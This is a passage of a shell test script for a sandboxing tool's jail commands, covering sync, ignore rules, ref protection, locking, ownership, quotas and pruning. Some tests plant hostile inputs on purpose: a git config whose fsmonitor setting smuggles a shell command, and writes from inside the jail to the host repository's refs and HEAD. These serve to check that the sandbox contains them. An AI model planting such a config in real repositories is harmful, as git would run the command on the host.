    mkdir -p "$src/sub/refs/heads"; echo 'ref: refs/heads/main' >"$src/sub/HEAD"; echo k >"$src/sub/refs/heads/.keep"
    git -C "$src" add -A; git -C "$src" commit -q -m sub
    name=$prefix-c6a-$ws
    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
    "$P" jail exec "$name" -- sh -c "printf '[core]\n\tbare = false\n\tfsmonitor = \"touch $work/c6a-mark; false\"\n' >sub/config" \
      >/dev/null 2>&1 || fail "$ws: exec 1"
    # The source gains the repository's objects on its own (the host's work, after the jail was
    # made): in the jail, sub/ never is a repository, so no check of a jail run can catch the
    # config; only the check after --apply sees what the write made in the source.
    mkdir -p "$src/sub/objects/info" && echo x >"$src/sub/objects/info/x"
    "$P" jail sync "$name" --apply >/dev/null 2>"$work/err" || fail "$ws: --apply: $(cat "$work/err")"
    [ ! -e "$src/sub/config" ] && ok || fail "$ws: a repository assembled in the source by --apply kept the run's config"
    grep -q "$src/sub/config" "$work/err" && ok || fail "$ws: the check after --apply does not say what it moved: $(cat "$work/err")"
  done

  # Issue 30 item 2: diff and every sync leave out what the source's ignore rules ignore (its
  # .gitignore files, info/exclude); a .gitignore the jail wrote leaves more out, said apart; a
  # tracked file is never left out; --include-ignored brings them back. A build in the source
  # left src/.deps/x.Plo (untracked, ignored) before the jail was made and the jail's build
  # changes it: --to-branch failed with "does not exist in index". Then --apply twice, and again
  # after more work: the jail's own earlier changes are not "changed in the source".
  tc=ignore-rules
  for ws in copy overlay worktree; do
    src=$work/src-ign-$ws; make_source "$src"
    printf '.deps/\n*.o\n' >"$src/.gitignore"; echo kept >"$src/keep.o"
    git -C "$src" add .gitignore; git -C "$src" add -f keep.o; git -C "$src" commit -q -m ignore
    echo '*.tmp' >>"$src/.git/info/exclude"
    mkdir -p "$src/src/.deps"; echo old >"$src/src/.deps/x.Plo"
    name=$prefix-ign-$ws
    "$P" jail create "$name" --workspace "$ws" --source "$src" 2>/dev/null && jails+=("$name") || { fail "$ws: create"; continue; }
    "$P" jail exec "$name" -- sh -c 'set -e; mkdir -p src/.deps sub2; echo new >src/.deps/x.Plo; echo n >src/.deps/y.Plo
echo o >src/m.o; echo t >t.tmp; echo real >real.c; echo changed >keep.o; echo hidden.txt >sub2/.gitignore
echo h >sub2/hidden.txt; echo "!m.o" >src/.gitignore' >"$work/out" 2>&1 || fail "$ws: exec: $(cat "$work/out")"
    if "$P" jail diff "$name" --name-status >"$work/diff" 2>"$work/err"; then
      got=$(awk '{print $1" "$2}' "$work/diff" | sort | tr '\n' ' ')
      [ "$got" = "A real.c A src/.gitignore A sub2/.gitignore M keep.o " ] && ok || fail "$ws: diff lists: $got"
      grep -q "5 ignored file(s) left out, 1 of them only by .gitignore files the jail wrote (--include-ignored to include them)" "$work/err" &&
        ok || fail "$ws: the left-out line: $(cat "$work/err")"
    else fail "$ws: diff: $(cat "$work/err")"; fi
    "$P" jail diff "$name" --name-status --include-ignored 2>/dev/null | grep -q "src/.deps/y.Plo" && ok ||
      fail "$ws: --include-ignored does not list src/.deps/y.Plo"
    "$P" jail diff "$name" --name-status --json 2>/dev/null | grep -q '"files": 5' && ok || fail "$ws: --json has no ignored count"
    # Once applied, a .gitignore the jail wrote is the source's own: its "!m.o" would then bring
    # src/m.o in. Taken back here so that the syncs below see the source's rules as they are.
    "$P" jail exec "$name" -- rm src/.gitignore >/dev/null 2>&1 || fail "$ws: exec rm"
    "$P" jail sync "$name" --patch "$work/ign-$ws.patch" 2>/dev/null || fail "$ws: --patch"
    grep -E -q '^diff --git .*(Plo|src/m\.o|t\.tmp|hidden\.txt)' "$work/ign-$ws.patch" && fail "$ws: the patch carries ignored files" || ok
    if "$P" jail sync "$name" --to-branch "ign-$ws" >/dev/null 2>"$work/err"; then
      listed=$(git -C "$src" ls-tree -r --name-only "ign-$ws")
      printf '%s\n' "$listed" | grep -q '^real.c$' && ok || fail "$ws: the branch lacks real.c"
      printf '%s\n' "$listed" | grep -q 'Plo\|m\.o\|t\.tmp\|hidden' && fail "$ws: the branch has ignored files: $listed" || ok
    else fail "$ws: --to-branch: $(cat "$work/err")"; fi
    if "$P" jail sync "$name" --apply >/dev/null 2>"$work/err"; then
      [ -f "$src/real.c" ] && [ "$(cat "$src/keep.o")" = changed ] && ok || fail "$ws: --apply left out real.c or keep.o"
      [ "$(cat "$src/src/.deps/x.Plo")" = old ] && [ ! -e "$src/src/.deps/y.Plo" ] && [ ! -e "$src/src/m.o" ] &&
        [ ! -e "$src/t.tmp" ] && [ ! -e "$src/sub2/hidden.txt" ] && ok || fail "$ws: --apply copied ignored files"
      grep -q "5 ignored file(s) left out" "$work/err" && ok || fail "$ws: --apply does not say what it left out: $(cat "$work/err")"
    else fail "$ws: --apply: $(cat "$work/err")"; fi
    if "$P" jail sync "$name" --apply >"$work/out" 2>"$work/err"; then
      [ ! -s "$work/out" ] && ok || fail "$ws: a second --apply wrote again: $(cat "$work/out")"
    else fail "$ws: a second --apply refused the jail's own changes: $(cat "$work/err")"; fi
    "$P" jail exec "$name" -- sh -c 'echo again >real.c; echo kept >keep.o' >/dev/null 2>&1 || fail "$ws: exec 2"
    if "$P" jail sync "$name" --apply >/dev/null 2>"$work/err"; then
      [ "$(cat "$src/real.c")" = again ] && [ "$(cat "$src/keep.o")" = kept ] && ok || fail "$ws: the third --apply did not write"
    else fail "$ws: --apply after more work: $(cat "$work/err")"; fi
    echo user >"$src/real.c"
    "$P" jail exec "$name" -- sh -c 'echo jail >real.c' >/dev/null 2>&1 || fail "$ws: exec 3"
    if "$P" jail sync "$name" --apply >/dev/null 2>"$work/err"; then fail "$ws: --apply over the user's edit succeeded"
    else grep -q 'real.c' "$work/err" && ok || fail "$ws: the refusal does not name real.c: $(cat "$work/err")"; fi
    [ "$(cat "$src/real.c")" = user ] && ok || fail "$ws: the user's edit was overwritten"
    "$P" jail sync "$name" --apply --include-ignored >/dev/null 2>&1 && fail "$ws: --include-ignored bypassed the refusal" || ok
  done

  # Issue 26 item 5: a worktree jail writes no ref of the source but its own refs/heads/paddock/*.
  tc=worktree-refs
  src=$work/src-refs; make_source "$src"
  name=$prefix-refs
  "$P" jail create "$name" --workspace worktree --source "$src" 2>/dev/null && jails+=("$name") || fail "create"
  main_before=$(git -C "$src" rev-parse main)
  "$P" jail exec "$name" "${gitenv[@]}" -- sh -c "git commit -q --allow-empty -m x
git update-ref refs/heads/main HEAD; git tag t1; git branch other; git update-ref refs/remotes/o/x HEAD
echo \$(git rev-parse HEAD) >'$src/.git/refs/heads/main'; echo \$(git rev-parse HEAD) >'$src/.git/refs/tags/t2'
echo 'ref: refs/heads/other' >'$src/.git/HEAD'; echo >>'$src/.git/packed-refs'
git update-ref refs/heads/paddock/$name-own HEAD; true" >/dev/null 2>&1 || true
  [ "$(git -C "$src" rev-parse main)" = "$main_before" ] && ok || fail "the jail moved main"
  [ "$(git -C "$src" symbolic-ref HEAD)" = refs/heads/main ] && ok || fail "the jail changed the source's HEAD"
  for r in refs/tags/t1 refs/tags/t2 refs/heads/other refs/remotes/o/x; do
    git -C "$src" rev-parse -q --verify "$r" >/dev/null && fail "the jail wrote $r" || ok
  done
  git -C "$src" rev-parse -q --verify "refs/heads/paddock/$name-own" >/dev/null && ok || fail "the jail could not write its own refs/heads/paddock/*"

  # Issue 26 item 4: sync takes the exclusive lock: refused while a command runs in the jail.
  tc=sync-lock
  name=$prefix-synclock
  "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
  "$P" jail exec "$name" -- sh -c 'echo l >locked.txt; sleep 3' >/dev/null 2>&1 &
  pl=$!
  sleep 1
  for how in "--patch $work/lock.patch" "--apply" "--to-branch locked"; do
    # shellcheck disable=SC2086
    if "$P" jail sync "$name" $how >/dev/null 2>"$work/err"; then fail "sync $how ran while a command ran"
    else grep -q "in use" "$work/err" && ok || fail "sync $how refusal: $(cat "$work/err")"; fi
  done
  wait "$pl" || true
  [ ! -e "$work/lock.patch" ] && [ ! -e "$work/src-refused/locked.txt" ] && ok || fail "a refused sync wrote"

  # Issue 26 item 3: a jail store or a jail root owned by another uid is refused (the mode
  # refusal is tested by hostile-run).
  tc=owner
  if [ "$(id -u)" = 0 ]; then
    name=$prefix-owner
    "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
    root=$("$P" jail show "$name" --json | sed -n 's/^  "jail_root": "\(.*\)",$/\1/p')
    chown 12345 "$root"
    if "$P" jail exec "$name" -- true 2>"$work/err"; then fail "exec in a jail root owned by another uid ran"
    else grep -q "owned by uid 12345" "$work/err" && ok || fail "no owner refusal: $(cat "$work/err")"; fi
    chown 0 "$root"
    mkdir -p "$work/foreign-store"; chmod 700 "$work/foreign-store"; chown 12345 "$work/foreign-store"
    if PADDOCK_JAILS_DIR=$work/foreign-store "$P" jail list 2>"$work/err"; then fail "a store owned by another uid was used"
    else grep -q "owned by uid 12345" "$work/err" && ok || fail "no store owner refusal: $(cat "$work/err")"; fi
  else
    # /var/tmp is root's: a store there is someone else's.
    if PADDOCK_JAILS_DIR=/var/tmp "$P" jail list 2>"$work/err"; then fail "a store owned by root was used"
    else grep -q "owned by uid 0" "$work/err" && ok || fail "no store owner refusal: $(cat "$work/err")"; fi
  fi

  # jail rm: a tree deeper than the descriptors allow is removed whole (it was left half removed
  # as .removing-*, EMFILE), and work that is not in the source is not lost without --force.
  tc=rm
  name=$prefix-deep
  "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
  store=$(dirname "$("$P" jail show "$name" --json | sed -n 's/^  "jail_root": "\(.*\)",$/\1/p')")
  "$P" jail exec "$name" -- sh -c 'echo unsynced >u.txt; i=0; while [ $i -lt 1500 ]; do mkdir d; cd d; i=$((i+1)); done' \
    >/dev/null 2>&1 || fail "exec: a deep tree"
  if "$P" jail rm "$name" 2>"$work/err"; then fail "rm of a jail with unsynced work succeeded without --force"
  else grep -q -- "--force" "$work/err" && ok || fail "rm's refusal: $(cat "$work/err")"; fi
  "$P" jail show "$name" >/dev/null 2>&1 && ok || fail "the refused rm removed the jail"
  if (ulimit -n 1024; "$P" jail rm --force "$name") >/dev/null 2>"$work/err"; then ok; else fail "rm --force of a deep tree: $(cat "$work/err")"; fi
  ls -A "$store" | grep -q "^\.removing-$name" && fail "rm left $(ls -A "$store" | grep removing)" || ok
  name=$prefix-unsynced
  "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name") || fail "create"
  "$P" jail exec "$name" -- sh -c 'echo new >new.txt' >/dev/null 2>&1
  if "$P" jail rm "$name" 2>"$work/err"; then fail "rm of unsynced work succeeded"
  else grep -q "new.txt" "$work/err" && ok || fail "rm does not say what would be lost: $(cat "$work/err")"; fi
  "$P" jail sync "$name" --apply >/dev/null 2>&1 || fail "sync"
  expect "rm after sync needs no --force" "$P" jail rm "$name"

  # Bad names.
  tc=names
  for bad in 'a/b' '..' "$(printf 'x%.0s' $(seq 65))" "$(printf 'a\033b')" '-x'; do
    if "$P" jail create "$bad" --source "$work/src-refused" >/dev/null 2>"$work/err"; then
      fail "the name '$bad' was accepted"; "$P" jail rm "$bad" >/dev/null 2>&1 || true
    else ok; fi
  done
  grep -q $'\033' "$work/err" && fail "a control byte was echoed raw" || ok

  # A damaged runtime.json: an error naming the file and offering rm, and rm works.
  tc=damaged
  name=$prefix-damaged
  "$P" jail create "$name" --workspace host --source "$work/src-refused" 2>/dev/null && jails+=("$name")
  root=$("$P" jail show "$name" --json | sed -n 's/^  "jail_root": "\(.*\)",$/\1/p')
  echo '{ broken' >"$root/runtime/runtime.json"
  if "$P" jail exec "$name" -- true 2>"$work/err"; then fail "exec in a damaged jail succeeded"; fi
  grep -q "$root/runtime/runtime.json" "$work/err" && grep -q "paddock jail rm $name" "$work/err" && ok ||
    fail "the error does not name the file and offer rm: $(cat "$work/err")"
  expect "rm of a damaged jail" "$P" jail rm "$name"
  [ ! -e "$root" ] && ok || fail "rm left $root"

  # The size cap is checked before each exec.
  tc=quota
  name=$prefix-quota
  "$P" jail create "$name" --workspace copy --source "$work/src-refused" --max-size 1M 2>/dev/null && jails+=("$name")
  expect "exec under the cap" "$P" jail exec "$name" -- sh -c 'head -c 2000000 /dev/zero >big'
  if "$P" jail exec "$name" -- true 2>"$work/err"; then fail "exec over the cap ran"
  else grep -q "over its size cap" "$work/err" && ok || fail "no size-cap message: $(cat "$work/err")"; fi

  # Issue 30 item 9: copying a large source shows progress; on a non-terminal (a log) at most one
  # line every 5 seconds (the hook moves the first line's second to "at once": without the bound
  # a line per file, thousands here). On a terminal one line rewritten in place.
  tc=copy-progress
  src=$work/src-progress; mkdir -p "$src"
  for d in $(seq 40); do mkdir "$src/d$d"; for f in $(seq 100); do echo "$d $f" >"$src/d$d/f$f"; done; done
  name=$prefix-progress
  t0=$(date +%s)
  if PADDOCK_JAIL_PROGRESS_AFTER_MS=0.001 "$P" jail create "$name" --workspace copy --source "$src" 2>"$work/err"; then
    jails+=("$name")
    elapsed=$(( $(date +%s) - t0 ))
    lines=$(grep -c "jail: copying the source: [0-9]* files" "$work/err" || true)
    [ "$lines" -ge 1 ] && ok || fail "no progress line: $(cat "$work/err")"
    [ "$lines" -le $((1 + elapsed / 5)) ] && ok || fail "$lines progress lines in ${elapsed}s on a non-terminal"
    grep -q $'\r' "$work/err" && fail "a carriage return on a non-terminal" || ok
  else fail "create: $(cat "$work/err")"; fi
  if command -v script >/dev/null; then
    name=$prefix-progress-tty
    PADDOCK_JAIL_PROGRESS_AFTER_MS=0.001 script -qec "'$P' jail create '$name' --workspace copy --source '$src'" /dev/null \
      >"$work/tty" 2>&1 && jails+=("$name")
    grep -q $'\r\\[paddock\\] jail: copying the source' "$work/tty" && ok || fail "no progress line on a terminal: $(head -c 300 "$work/tty")"
  fi

  # Issue 30 item 3: an overlay jail with a size cap runs more than once (overlayfs leaves its
  # work/work with mode 0 after each mount: the cap's measure read "cannot open directory"), and
  # show and prune know its size.
  tc=quota-overlay
  export PADDOCK_JAILS_DIR=$work/quota-store  # prune looks at every jail of its store
  name=$prefix-quota-ov
  "$P" jail create "$name" --workspace overlay --source "$work/src-refused" --max-size 1M 2>/dev/null && jails+=("$name")
  for i in 1 2 3; do
    if "$P" jail exec "$name" -- sh -c "echo $i >n$i" >/dev/null 2>"$work/err"; then ok
    else fail "overlay exec $i under the cap: $(cat "$work/err")"; fi
  done
  "$P" jail show "$name" >"$work/show" 2>&1
  grep -q '^size  *[0-9.]*[KMG]* of at most 1M' "$work/show" && ok || fail "show has no size: $(grep size "$work/show")"
  size=$("$P" jail show "$name" --json | sed -n 's/^  "size_bytes": \([0-9]*\),*$/\1/p')
  [ "${size:-0}" -gt 0 ] && ok || fail "show --json has no size_bytes"
  expect "overlay exec under the cap" "$P" jail exec "$name" -- sh -c 'head -c 2000000 /dev/zero >big'
  if "$P" jail exec "$name" -- true 2>"$work/err"; then fail "overlay exec over the cap ran"
  else grep -q "over its size cap" "$work/err" && ok || fail "overlay: no size-cap message: $(cat "$work/err")"; fi
  "$P" jail prune --max-size 1 --dry-run >/dev/null 2>"$work/err" || fail "prune --dry-run: $(cat "$work/err")"
  line=$(grep "would remove jail $name " "$work/err" || true)
  case "$line" in *"(0, "*|"") fail "prune lists the overlay jail without its size: $(cat "$work/err")" ;; *) ok ;; esac
  grep -q "size unknown" "$work/err" && fail "prune could not measure a jail: $(cat "$work/err")" || ok
  "$P" jail rm --force "$name" >/dev/null 2>&1 || fail "rm"
  unset PADDOCK_JAILS_DIR

  # Two execs at once in one jail; rm refused while one runs.
  tc=concurrent
  name=$prefix-conc
  "$P" jail create "$name" --workspace copy --source "$work/src-refused" 2>/dev/null && jails+=("$name")
  "$P" jail exec "$name" -- sh -c 'sleep 1; echo one >one' >/dev/null 2>&1 &
  p1=$!
  "$P" jail exec "$name" -- sh -c 'sleep 1; echo two >two' >/dev/null 2>&1 &
  p2=$!
  sleep 0.3
  if "$P" jail rm "$name" 2>"$work/err"; then fail "rm succeeded while a command ran"
  else grep -q "in use" "$work/err" && ok || fail "rm refusal: $(cat "$work/err")"; fi
  wait "$p1" && wait "$p2" && ok || fail "one of two concurrent execs failed"
  wsroot=$("$P" jail show "$name" --json | sed -n '/"workspace"/,/}/s/^    "root": "\(.*\)"$/\1/p')
  [ -f "$wsroot/one" ] && [ -f "$wsroot/two" ] && ok || fail "a concurrent exec's write is missing"

  # prune: by age (none is old) and by total size (the least recently used go first), in a
  # store of its own (prune looks at every jail of the store, and this may be someone's machine).
  tc=prune
  export PADDOCK_JAILS_DIR=$work/prune-store
  for j in a b c; do
    "$P" jail create "$prefix-prune-$j" --workspace copy --source "$work/src-refused" 2>/dev/null || fail "create prune-$j"
    sleep 1.1
  done
  name=$prefix-prune-a  # the oldest, used last
  "$P" jail exec "$name" -- true >/dev/null 2>&1
  "$P" jail prune --older-than 1d >/dev/null 2>&1 || fail "prune --older-than"
  "$P" jail show "$name" --json >/dev/null 2>&1 && ok || fail "prune --older-than 1d removed a fresh jail"
  "$P" jail list --json >"$work/list" && grep -q "\"name\": \"$name\"" "$work/list" && ok || fail "list --json"
  before=$("$P" jail list | grep -c "^$prefix" || true)
  size=$("$P" jail show "$name" --json | sed -n 's/^  "size_bytes": \([0-9]*\),*$/\1/p')
  "$P" jail prune --max-size "$((size + 4096))" >/dev/null 2>"$work/err" || fail "prune --max-size: $(cat "$work/err")"
  after=$("$P" jail list | grep -c "^$prefix" || true)
  "$P" jail show "$name" --json >/dev/null 2>&1 && ok || fail "prune --max-size removed the most recently used jail"
  [ "$before" = 3 ] && [ "$after" = 1 ] && ok || fail "prune --max-size: $before -> $after jails, want 3 -> 1"
  unset PADDOCK_JAILS_DIR

  echo "jail tests ($(id -un)): $checks checks, $failures failures"
  [ "$failures" = 0 ]
  exit $?
fi

# ---- Outer: as root, or drop to the unprivileged test user. ----
command -v git >/dev/null || { echo "SKIPPED: git is not installed"; exit 77; }
case "$who" in
  current) exec "$0" __inner "$paddock_bin" ;;
  root)
    if [ "$(id -u)" != 0 ]; then echo "SKIPPED: the root run needs root (running as $(id -un))"; exit 77; fi
    exec "$0" __inner "$paddock_bin"
    ;;
  unprivileged)
    if [ "$(id -u)" != 0 ]; then exec "$0" __inner "$paddock_bin"; fi
    user=${PADDOCK_TEST_USER:-paddock-test}
    if ! id "$user" >/dev/null 2>&1; then
      echo "the unprivileged test user '$user' does not exist: run scripts/test-user.sh" >&2
      exit 1
    fi
    uid=$(id -u "$user") gid=$(id -g "$user")
    drop=(setpriv --reuid="$uid" --regid="$gid" --clear-groups --inh-caps=-all --bounding-set=-all)
    bindir=$(mktemp -d /tmp/paddock-jailtest.XXXXXX)
    home=$(mktemp -d /tmp/paddock-jailhome.XXXXXX)
    trap 'rm -rf "$bindir" "$home"' EXIT
    cp "$paddock_bin" "$bindir/paddock"
    cp "$0" "$bindir/run.sh"
    chmod -R a+rX "$bindir"
    chown "$uid:$gid" "$home"
    "${drop[@]}" env -i PATH=/usr/local/bin:/usr/bin:/bin HOME="$home" USER="$user" LOGNAME="$user" TMPDIR=/tmp \
      SHELL=/bin/sh "$bindir/run.sh" __inner "$bindir/paddock"
    ;;
  *) echo "usage: run.sh root|unprivileged|current PADDOCK_BINARY" >&2; exit 2 ;;
esac
